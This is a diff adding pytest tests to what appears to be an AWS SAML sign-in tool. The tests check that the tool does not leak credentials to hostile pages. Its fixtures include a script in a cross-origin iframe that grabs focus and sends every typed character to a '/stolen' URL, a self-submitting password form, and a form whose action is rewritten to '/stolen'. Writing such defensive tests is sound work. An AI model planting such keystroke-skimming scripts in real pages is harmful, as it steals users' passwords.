@@ -13,7 +13,12 @@ import pytest
 from aws_saml_ext.capture.browser.engine import WatchedBrowser
 from aws_saml_ext.capture.flow.sign_in_flow import capturing
 from aws_saml_ext.config.settings import Flow, Settings
-from aws_saml_ext.errors import ConfigError, SignInRequired
+from aws_saml_ext.errors import (
+    ConfigError,
+    IdentityProviderRefused,
+    SamlLoginError,
+    SignInRequired,
+)
 from tests import browsers
 from tests.described_pages import browsing
 from tests.doubles import FakePrompt
@@ -144,7 +149,69 @@ def test_a_page_that_breaks_its_own_scripts_is_read_all_the_same(
     assert prompt.asked == ["User name: ", "Password: (hidden)"]
 
 
+# ---- frames of another origin ----
+
+# It takes the focus again and again, and tells its site what is typed there.
+THIEF = """<input id=i autofocus><script>
+i.oninput = () => fetch("/stolen?" + encodeURIComponent(i.value))
+setInterval(() => { window.focus(); i.focus() }, 0)
+</script>"""
+# Where the page asks a number of its script, it gets a word.
+NO_NUMBERS = "<script>globalThis.String = () => 'many'</script>"
+
+
+def framed(address: str) -> str:
+    return f"<title>Sign in</title><iframe width=600 height=400 src={address}></iframe>"
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
+def test_a_frame_that_takes_the_focus_gets_nothing_of_what_is_typed(
+    host: str, browser: WatchedBrowser, web: Web, attacker: Web
+) -> None:
+    attacker.pages["/thief"] = Answer(THIEF)
+    web.pages["/idp"] = Answer(SIGN_IN_PAGE + framed(attacker.url("/thief", host)))
+    assert sign_in(web.url("/idp"), browser, FakePrompt(["jane", "secret"])) == "QUJD"
+    assert "GET /thief" in attacker.requests
+    assert [request for request in attacker.requests if "stolen" in request] == []
+
+
+def test_a_frame_that_gives_words_for_numbers_ends_in_words_too(
+    browser: WatchedBrowser, web: Web, attacker: Web
+) -> None:
+    attacker.pages["/words"] = Answer(NO_NUMBERS + SIGN_IN_PAGE)
+    web.pages["/idp"] = Answer(framed(attacker.url("/words", "localhost")))
+    with pytest.raises(SamlLoginError):
+        sign_in(web.url("/idp"), browser, FakePrompt(["jane", "secret"]))
+
+
+def test_a_frame_without_an_address_gets_nothing(browser: WatchedBrowser, web: Web) -> None:
+    web.pages["/idp"] = Answer(f"<title>Sign in</title><iframe srcdoc='{SIGN_IN_PAGE}'></iframe>")
+    said, asked = refused(web.url("/idp"), browser)
+    assert said.startswith("127.0.0.1 asks for a sign-in in a part that has no address")
+    assert asked == []
+
+
 # ---- a password that no person types ----
+
+# The script of the page sends it at its last key, before the box is ticked.
+HASTY = """<title>Sign in</title><form method=post action=/wrong>
+<label>Password <input id=p type=password name=password></label>
+<label><input type=checkbox name=keep> Keep me signed in</label><button>Sign in</button></form>
+<script>p.oninput = () => { if (p.value.length === 6) document.forms[0].submit() }</script>"""
+
+
+def test_a_form_that_submits_itself_gets_a_wrong_password_once(
+    browser: WatchedBrowser, web: Web, tmp_path: Path
+) -> None:
+    web.requests.clear()
+    web.pages |= {"/idp": Answer(HASTY), "/wrong": Answer("<p>Wrong password.</p>" + HASTY)}
+    command = {"username": "jane", "password_command": ("echo", "secret"), "saml_folder": tmp_path}
+    with pytest.raises(IdentityProviderRefused, match="Wrong password"):
+        sign_in(web.url("/idp"), browser, FakePrompt(), sign_in=Flow.SILENT, **command)
+    with pytest.raises(SignInRequired, match="has refused"):
+        sign_in(web.url("/idp"), browser, FakePrompt(), sign_in=Flow.SILENT, **command)
+    assert web.requests.count("POST /wrong") == 1
+
 
 THEFT = SIGN_IN_PAGE.replace("action=https://signin.aws.amazon.com/saml", "action=/stolen")
 
